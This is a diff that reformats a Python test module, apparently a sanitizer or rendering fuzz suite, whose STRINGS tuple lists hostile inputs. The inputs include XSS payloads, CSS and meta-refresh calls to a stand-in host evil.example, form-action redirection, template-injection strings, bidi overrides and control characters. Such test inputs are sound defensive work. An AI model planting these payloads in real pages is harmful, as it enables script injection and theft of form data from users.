@@ -13,7 +13,7 @@ STRINGS = (
     f'" style="position:fixed;inset:0;background:url(https://evil.example/a)" onclick="{HIT}',
     f"<a href=javascript:{HIT}>press</a>",
     f"javascript:{HIT}//",
-    f"<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
     "<style>*{display:none!important}@import 'https://evil.example/b'</style>",
     "<link rel=stylesheet href=https://evil.example/c><meta http-equiv=refresh content='0;url=https://evil.example/d'>",
     "<base href=https://evil.example/><form action=https://evil.example/><input name=attributes></form>",
@@ -24,7 +24,9 @@ STRINGS = (
     "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%= 1 %> #{1}",
     "&lt;script&gt;window.hit=1&lt;/script&gt; &amp;amp; &#60;b&#62; \\u003cb\\u003e",
     "\u202eright to left override \u2066isolate never closed \u202a\u202b\u202d",
-    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ea\u0309\u0351\u032f\u031fl" + "\u0301" * 80 + "go",
+    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ea\u0309\u0351\u032f\u031fl"
+    + "\u0301" * 80
+    + "go",
     "W" * 900,
     "ﷺ" * 60 + "𒐫" * 40 + "꧅" * 40,
     "null byte \x00 escape \x1b[31m bell \x07 end",
@@ -44,7 +46,7 @@ STRINGS = (
     "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \ufeff\u00ad\u200b emoji and nothing",
 )
 EVERYTHING = " ".join(STRINGS[:10])
-CONTROL = {code: " " for code in (*range(9), 11, 12, *range(14, 32), 127)}
+CONTROL = dict.fromkeys((*range(9), 11, 12, *range(14, 32), 127), " ")
 
 
 def for_xml(text: str) -> str:
